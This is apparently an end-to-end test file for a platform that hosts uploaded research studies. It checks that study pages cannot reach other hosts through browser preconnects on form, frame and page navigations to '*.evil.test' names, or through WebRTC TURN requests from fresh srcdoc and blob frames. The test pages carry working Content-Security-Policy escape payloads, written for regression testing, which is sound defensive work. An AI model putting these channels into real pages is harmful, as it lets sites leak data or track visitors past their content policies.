import { createSocket } from 'node:dgram';
import { createServer, type Server } from 'node:http';
import { createServer as createTcp, type AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { eventually } from '../../support/chance/wait';
import { callApi, demoPerson } from '../support/api';
import { useBrowser } from '../support/browser';
import { enrolAndOpenStudy, clickBegin, launchUploadedStudy } from '../support/running-here';

/** Names of `*.evil.test` to which a browser has connected: TLS sends them unencrypted. */
const asked = new Set<string>();
/** The number of UDP packets received at the ports given to the study and to the control page. */
const packets = { study: 0, control: 0 };
const ports = { study: 0, control: 0 };
const resolver: string[] = [];

const tcp = createTcp((socket) => {
  socket.on('error', () => undefined);
  socket.on('data', (data) => {
    for (const [name] of data.toString('latin1').matchAll(/[a-z0-9-]+\.evil\.test/g))
      asked.add(name);
  });
});
const udp = { study: createSocket('udp4'), control: createSocket('udp4') };
const listening = (server: Server | typeof tcp) =>
  new Promise<number>((resolve) =>
    server.listen(0, '127.0.0.1', () => resolve((server.address() as AddressInfo).port)),
  );

beforeAll(async () => {
  resolver.push(`--host-resolver-rules=MAP *.evil.test 127.0.0.1:${await listening(tcp)}`);
  for (const who of ['study', 'control'] as const) {
    udp[who].on('message', () => void (packets[who] += 1));
    await new Promise<void>((resolve) => udp[who].bind(0, '127.0.0.1', resolve));
    ports[who] = udp[who].address().port;
  }
});
afterAll(async () => {
  udp.study.close();
  udp.control.close();
  await new Promise((resolve) => tcp.close(resolve));
});
// Starts the browser once the port is known, because the port is an argument for Chromium. It is a
// complete browser, because the headless shell does not preconnect for navigations.
const browser = useBrowser(resolver, true);

type Who = keyof typeof ports;
const page = (
  script: string,
) => `<!doctype html><html lang="en"><title>Words</title><iframe name="target"></iframe><script>
const frame = (set) => { const one = document.createElement('iframe'); set(one); document.body.append(one); };
addEventListener('load', () => {
  ${script}
  console.log('Tried');
});
</script></html>`;

/**
 * Two ways to reach other hosts in spite of the Content-Security-Policy, found in a security
 * examination.
 */
const ways = {
  /** Browsers may preconnect for a navigation that they then refuse; the host name itself leaks data. */
  navigations: (who: Who) =>
    page(`const to = (way) => 'https://' + way + '-${who}.evil.test/';
  const form = document.createElement('form');
  form.method = 'post';
  form.target = 'target';
  form.action = to('form');
  document.body.append(form);
  form.submit();
  frame((one) => { one.src = to('frame'); });
  setTimeout(() => { location.href = to('page'); }, 500);`),
  /** Uses fresh frames, in which the study's page cannot disable WebRTC. */
  WebRTC: (who: Who) =>
    page(`const connect = () => {
    const urls = 'turn:127.0.0.1:${ports[who]}?transport=udp';
    const iceServers = [{ urls, username: 'a', credential: 'b' }];
    const peer = new RTCPeerConnection({ iceServers });
    peer.createDataChannel('a');
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  };
  const inner = '<script>(' + connect + ')()<\\/script>';
  frame((one) => { one.srcdoc = inner; });
  frame((one) => { one.src = URL.createObjectURL(new Blob([inner], { type: 'text/html' })); });`),
};
type Way = keyof typeof ways;
const namesOf = (who: Who) => ['form', 'frame', 'page'].map((way) => `${way}-${who}.evil.test`);
const heard = {
  navigations: (who: Who) => namesOf(who).filter((name) => asked.has(name)).length,
  WebRTC: (who: Who) => packets[who],
};
const enough = { navigations: 3, WebRTC: 1 };

/**
 * Opens the same page without our allowlist of connections: the connections that it makes show that
 * the listeners work.
 */
async function control(tab: Page, way: Way): Promise<void> {
  const server = createServer((request, response) => {
    response.setHeader('Content-Type', 'text/html');
    if (request.url !== '/s/')
      return response.end('<iframe sandbox="allow-scripts allow-forms" src="/s/"></iframe>');
    const policy = "default-src 'unsafe-inline' blob:; form-action 'none'; frame-src blob:";
    response.setHeader('Content-Security-Policy', `sandbox allow-scripts allow-forms; ${policy}`);
    response.end(ways[way]('control'));
  });
  const port = await listening(server);
  try {
    // The frames of this page may never finish loading: each tries to reach a host that does not
    // answer.
    await tab.goto(`http://127.0.0.1:${port}/`, { waitUntil: 'commit' });
    await eventually(
      () => Promise.resolve(heard[way]('control')),
      (count) => count >= enough[way],
    );
  } finally {
    // Closes the page before its server: otherwise the next test would report the requests that
    // then fail.
    await tab.context().close();
    server.close();
    server.closeAllConnections();
  }
}

describe('study that may reach no other hosts', () => {
  it.each<[Way, boolean]>([
    ['navigations', false],
    ['navigations', true],
    ['WebRTC', false],
    ['WebRTC', true],
  ])(
    'opens no connection to other hosts through %s, with frames allowed: %s',
    async (way, frames) => {
      asked.clear();
      Object.assign(packets, { study: 0, control: 0 });
      const files = { 'index.html': Buffer.from(ways[way]('study')) };
      const study = await launchUploadedStudy(files, `Escaping by ${way}, ${frames}`, { frames });
      const { page: tab, participation } = await enrolAndOpenStudy(browser, study);
      // Chromium 156 crashes a page that requests a WebRTC connection which its allowlist refuses, so a
      // crash is a possible end of the test's page.
      const ended = new Promise<void>((resolve) => tab.once('crash', () => resolve()));
      // The page reports by a console message, because a navigation can replace its content before
      // the test reads it.
      const tried = new Promise<void>((resolve) =>
        tab.on('console', (message) => {
          if (message.text() === 'Tried') resolve();
        }),
      );
      await tab.goto(`/run/${participation}`);
      await clickBegin(tab);
      await Promise.race([ended, tried]);
      await control(await browser.open(), way);
      expect(heard[way]('study')).toBe(0);
      browser.problems.splice(0);
    },
  );

  it('is described, before its start and in the version’s report, as possibly able to reach another server', async () => {
    const files = { 'index.html': Buffer.from(ways.navigations('study') + ways.WebRTC('study')) };
    const study = await launchUploadedStudy(files, 'Escaping, as it is told');
    const { page: tab, participation } = await enrolAndOpenStudy(browser, study);
    await tab.goto(`/run/${participation}`);
    const sentence =
      'It is meant to exchange data with this site only. Its code could still tell another server that you are here.';
    await tab.getByText(sentence).waitFor();
    expect(await tab.getByText('It exchanges data with this site only.').count()).toBe(0);
    const { token } = await demoPerson('researcher');
    const at = `/api/studies/${study.study_id}/versions/`;
    const { items } = await callApi<{ items: { _id: string }[] }>('GET', at, { token });
    const { report } = await callApi<{ report: { asks: string[]; frames: boolean } }>(
      'GET',
      `${at}${items[0]?._id}/report/`,
      { token },
    );
    expect(report).toMatchObject({ asks: ['peer_connection', 'computed_address'], frames: true });
  });
});
